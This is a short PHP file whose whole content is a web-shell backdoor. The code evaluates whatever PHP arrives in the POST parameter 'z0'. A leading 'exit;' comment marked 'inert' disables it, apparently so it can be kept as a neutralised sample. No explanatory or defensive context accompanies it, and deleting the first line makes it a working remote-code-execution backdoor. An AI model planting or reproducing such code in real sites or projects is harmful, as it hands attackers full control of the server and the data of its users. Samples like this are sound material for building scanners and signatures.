<?php exit; /* inert */ 
if (!empty($HTTP_POST_VARS{'z0'}) || !empty($_POST{'z0'}))
    eval(stripslashes($_POST{'z0'}));
